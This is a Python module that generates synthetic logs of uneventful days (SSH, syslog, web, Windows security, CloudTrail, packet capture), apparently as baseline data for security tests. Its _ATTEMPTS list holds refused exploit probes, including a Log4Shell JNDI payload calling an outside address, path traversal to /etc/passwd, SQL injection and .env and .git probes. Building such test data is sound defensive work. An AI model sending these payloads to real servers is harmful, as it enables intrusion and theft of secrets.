"""Logs and captures of days on which nothing happened, generated: each number gives another one.

They hold what ordinary ones hold: typing mistakes, administrators at work, cron, update services, a search bot, errors.
"""

# ruff: noqa: E501 - scripts, code and commands stand as they would be written

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from random import Random

from tests.support import captures

_BEGAN = datetime(2026, 11, 9, 6, 0, tzinfo=UTC)
_USERS = ("mara", "jo", "deploy", "kim", "anna")
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
)
_BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def _at(random: Random, day: int, hours: tuple[int, int] = (7, 19)) -> datetime:
    return _BEGAN.replace(hour=random.randrange(*hours), minute=random.randrange(60)) + timedelta(
        days=day, seconds=random.randrange(60)
    )


def auth_week(number: int) -> bytes:
    """A week of an SSH server: keys, passwords, two typing mistakes, sudo, cron, and a scanner that gives up."""
    random, lines = Random(f"auth {number}"), []
    for day in range(7):
        for hour in range(24):
            at = _BEGAN.replace(hour=hour, minute=17) + timedelta(days=day)
            lines += [
                (at, "CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
                (at, "CRON[{pid}]: pam_unix(cron:session): session closed for user root"),
            ]
        for _ in range(random.randrange(3, 8)):
            lines += _visit(random, _at(random, day))
        if random.random() < 0.5:
            source = f"198.51.100.{random.randrange(2, 250)}"
            at = _at(random, day, (0, 23))
            lines += [
                (at, f"sshd[{{pid}}]: Invalid user admin from {source} port 40022"),
                (at, f"sshd[{{pid}}]: Connection closed by invalid user admin {source} port 40022 [preauth]"),
            ]
    rows = [(at, text.format(pid=1_000 + number_)) for number_, (at, text) in enumerate(sorted(lines))]
    return "".join(f"{at:%b} {at.day:2} {at:%H:%M:%S} web-{number} {text}\n" for at, text in rows).encode()


def _visit(random: Random, at: datetime) -> list[tuple[datetime, str]]:
    user = random.choice(_USERS)
    source, port = f"192.0.2.{10 + _USERS.index(user)}", random.randrange(40_000, 60_000)
    lines = []
    if random.random() < 0.2:
        lines.append((at, f"sshd[{{pid}}]: Failed password for {user} from {source} port {port} ssh2"))
    how = "publickey" if random.random() < 0.7 else "password"
    key = ": ED25519 SHA256:7q3hB1vS0aXo2JmN5kPzQw" if how == "publickey" else ""
    lines += [
        (at + timedelta(seconds=9), f"sshd[{{pid}}]: Accepted {how} for {user} from {source} port {port} ssh2{key}"),
        (at + timedelta(seconds=9), f"sshd[{{pid}}]: pam_unix(sshd:session): session opened for user {user}(uid=1000)"),
        (
            at + timedelta(seconds=40),
            f"sudo: {user:>8} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/"
            + random.choice(("apt update", "systemctl restart nginx", "journalctl -u nginx", "less /var/log/syslog")),
        ),
        (at + timedelta(minutes=20), f"sshd[{{pid}}]: pam_unix(sshd:session): session closed for user {user}"),
    ]
    return lines


def syslog_day(number: int) -> bytes:
    """A day of a server's services."""
    random = Random(f"syslog {number}")
    texts = (
        "systemd[1]: Started Daily apt download activities.",
        "systemd[1]: logrotate.service: Deactivated successfully.",
        "dhclient[512]: DHCPACK of 192.0.2.14 from 192.0.2.1",
        "NetworkManager[611]: <info> dhcp4 (eth0): state changed new lease",
        "ntpd[402]: adjusting local clock by 0.012s",
        "nginx[811]: signal process started",
        "kernel: EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro",
        'dockerd[901]: time="2026-11-09" level=info msg="Container health status changed"',
        "postfix/smtpd[771]: connect from mail.example.org[192.0.2.25]",
        "kernel: usb 1-1: new high-speed USB device number 4 using xhci_hcd",
        'rsyslogd: [origin software="rsyslogd"] exiting on signal 15.',
        "kernel: device docker0 entered promiscuous mode",
        "kernel: nvidia: loading out-of-tree module taints kernel.",
        "kernel: nvidia: module verification failed: signature and/or required key missing - tainting kernel",
        "CRON[711]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
        "CRON[712]: (root) CMD (curl -fsS https://hc-ping.example.com/abc >/dev/null)",
        "useradd[713]: new user: name=sshd, UID=110, GID=65534, home=/run/sshd, shell=/usr/sbin/nologin",
        "usermod[714]: add 'jenkins' to group 'docker'",
        "su[715]: pam_unix(su-l:session): session opened for user postgres(uid=111) by root(uid=0)",
        "sudo[716]: jo : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop firewalld",
        "sudo[717]: jo : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget https://downloads.example.org/a.deb",
        "kernel: [UFW BLOCK] IN=eth0 SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP DPT=23",
    )
    times = sorted(_at(random, 0, (0, 23)) for _ in range(200))
    return "".join(f"{at:%b} {at.day:2} {at:%H:%M:%S} srv{number} {random.choice(texts)}\n" for at in times).encode()


def web_day(number: int) -> bytes:
    """A day of a shop's web server: browsers, missing pages, a login form, one search bot."""
    random, rows = Random(f"web {number}"), []
    paths = (
        "/",
        "/shop",
        "/shop?page=2",
        "/css/site.css",
        "/js/app.js",
        "/img/vase.jpg",
        "/about",
        "/cart",
        "/search?q=vase",
    )
    for visitor in range(25):
        source, agent, at = f"203.0.113.{visitor + 1}", random.choice(_AGENTS), _at(random, 0)
        for step in range(random.randrange(4, 15)):
            path = random.choice(paths)
            rows.append((at + timedelta(seconds=7 * step), source, "GET", path, 200, agent))
        if random.random() < 0.3:
            rows.append((at, source, "GET", "/favicon.ico", 404, agent))
        if random.random() < 0.3:
            rows += [
                (at + timedelta(seconds=90), source, "POST", "/login", random.choice((302, 401)), agent),
                (at + timedelta(seconds=99), source, "POST", "/login", 302, agent),
            ]
    for step in range(60):
        at = _BEGAN + timedelta(minutes=3 * step)
        rows.append((at, "66.249.66.1", "GET", "/robots.txt" if not step else f"/shop/item/{step}", 200, _BOT))
    return "".join(
        f'{source} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} HTTP/1.1" {status} '
        f'{random.randrange(300, 9_000)} "-" "{agent}"\n'
        for at, source, method, path, status, agent in sorted(rows)
    ).encode()


_PROCESSES = (
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe"),
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "OUTLOOK.EXE"),
    ("C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p"),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"),
    ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\wuauclt.exe", "wuauclt.exe /RunHandlerComServer"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\notepad.exe", "notepad.exe C:\\Users\\jo\\notes.txt"),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c ipconfig"),
    (
        "C:\\Windows\\System32\\cmd.exe",
        "C:\\Windows\\System32\\curl.exe",
        "curl.exe -O https://downloads.example.org/a.zip",
    ),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe", "certutil -hashfile a.iso SHA256"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\msiexec.exe", "msiexec.exe /i C:\\temp\\agent.msi /qn"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo csv"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin list shadows"),
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\reg.exe", "reg query HKLM\\Software\\Microsoft"),
    (
        "C:\\Windows\\CCM\\CcmExec.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
    ),
)


def windows_day(number: int) -> bytes:
    """A workstation's security log as XML: logons, unlocks, service logons, processes, one mistyped password."""
    random, events = Random(f"windows {number}"), []
    user = random.choice(_USERS)
    for hour in range(8, 18):
        at = _BEGAN.replace(hour=hour, minute=random.randrange(60))
        logon = {
            "TargetUserName": user,
            "LogonType": random.choice("27"),
            "IpAddress": "127.0.0.1",
            "TargetLogonId": f"0x{hour:x}11",
        }
        events += [(at, 4624, logon), (at, 4672, {"SubjectUserName": "SYSTEM", "PrivilegeList": "SeTcbPrivilege"})]
        events.append(
            (at, 4624, {"TargetUserName": "SYSTEM", "LogonType": "5", "IpAddress": "-", "TargetLogonId": "0x3e7"})
        )
        for parent, image, line in random.sample(_PROCESSES, 4):
            facts = {"SubjectUserName": user, "NewProcessName": image, "ParentProcessName": parent, "CommandLine": line}
            events.append((at + timedelta(minutes=2), 4688, facts))
        events.append(
            (
                at + timedelta(minutes=30),
                4634,
                {"TargetUserName": user, "LogonType": "7", "TargetLogonId": f"0x{hour:x}11"},
            )
        )
    events.append(
        (_BEGAN.replace(hour=11), 4732, {"SubjectUserName": "helpdesk", "TargetUserName": "Remote Desktop Users"})
    )
    events.append(
        (
            _BEGAN.replace(hour=8),
            4625,
            {"TargetUserName": user, "LogonType": "2", "IpAddress": "127.0.0.1", "SubStatus": "0xc000006a"},
        )
    )
    return (
        "<Events>" + "".join(_event(number, *event) for event in sorted(events, key=lambda one: one[0])) + "</Events>"
    ).encode()


def _event(number: int, at: datetime, code: int, facts: dict[str, str]) -> str:
    data = "".join(f"<Data Name='{name}'>{value}</Data>" for name, value in facts.items())
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Security-Auditing'/>"
        f"<EventID>{code}</EventID><TimeCreated SystemTime='{at:%Y-%m-%dT%H:%M:%SZ}'/><Channel>Security</Channel>"
        f"<Computer>WS-{number}.corp.example</Computer></System><EventData>{data}</EventData></Event>"
    )


def exposed_web_day(number: int) -> bytes:
    """The same server on the Internet: besides visitors, exploit attempts that it refuses."""
    random, rows = Random(f"exposed {number}"), []
    for step in range(80):
        at, source = _BEGAN + timedelta(minutes=7 * step), f"198.51.100.{random.randrange(2, 60)}"
        path, status = random.choice(_ATTEMPTS), random.choice((400, 403, 404))
        rows.append(f'{source} - - [{at:%d/%b/%Y:%H:%M:%S} +0000] "GET {path} HTTP/1.1" {status} 153 "-" "zgrab/0.x"\n')
    return web_day(number) + "".join(rows).encode()


_ATTEMPTS = (
    "/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/../../etc/passwd", "/?id=1%27%20OR%201=1--", "/shell.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/luci",
)  # fmt: skip


def cloudtrail_day(number: int) -> bytes:
    """CloudTrail of a pipeline: it assumes a role, uploads, pushes an image, updates a service; a person looks on."""
    random, records = Random(f"cloud {number}"), []
    steps = (
        ("sts.amazonaws.com", "AssumeRole"), ("s3.amazonaws.com", "PutObject"), ("ecr.amazonaws.com", "GetAuthorizationToken"),
        ("ecr.amazonaws.com", "PutImage"), ("ecs.amazonaws.com", "RegisterTaskDefinition"), ("ecs.amazonaws.com", "UpdateService"),
        ("cloudformation.amazonaws.com", "DescribeStacks"), ("logs.amazonaws.com", "DescribeLogGroups"),
    )  # fmt: skip
    for run in range(12):
        at = _BEGAN + timedelta(hours=run, minutes=random.randrange(50))
        for step, (source, name) in enumerate(steps):
            records.append(_record(at + timedelta(seconds=5 * step), source, name, "ci-deploy", "192.0.2.80"))
    for name in ("DescribeInstances", "ListBuckets", "GetCallerIdentity", "LookupEvents"):
        records.append(_record(_at(random, 0), "ec2.amazonaws.com", name, random.choice(_USERS), "192.0.2.14"))
    return json.dumps({"Records": records}).encode()


def _record(at: datetime, source: str, name: str, user: str, address: str) -> dict[str, object]:
    return {
        "eventVersion": "1.09", "eventTime": f"{at:%Y-%m-%dT%H:%M:%SZ}", "eventSource": source, "eventName": name,
        "awsRegion": "eu-central-1", "sourceIPAddress": address, "userAgent": "aws-cli/2.17", "eventType": "AwsApiCall",
        "userIdentity": {"type": "IAMUser", "userName": user, "arn": f"arn:aws:iam::111122223333:user/{user}", "accountId": "111122223333"},
        "recipientAccountId": "111122223333",
    }  # fmt: skip


def capture_hour(number: int) -> bytes:
    """An hour of a workstation: names, pages with and without TLS, time, a mail server's greeting."""
    random, frames = Random(f"pcap {number}"), []
    for step in range(20):
        at = captures.START + step * random.uniform(40, 160)
        name = random.choice(
            ("www.shop.example", "news.example.org", "cdn.pictures.example.net", "updates.example.com")
        )
        frames += captures.question(name, at=at, missing=step == 7)
        page = f"GET /page/{random.randrange(99)} HTTP/1.1\r\nHost: {name}\r\nUser-Agent: {_AGENTS[step % 3]}\r\n\r\n"
        body = b"<html><body>" + b"vases and bowls " * random.randrange(20, 300) + b"</body></html>"
        reply = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        frames += captures.conversation([(">", page.encode()), ("<", reply)], at=at + 1, ports=(50_000 + step, 80))
        clock = bytes([0x23]) + bytes(47)
        frames.append((at + 2, captures.ethernet(captures.udp(captures.CLIENT, "10.0.0.1", (123, 123), clock))))
    return captures.capture(sorted(frames))
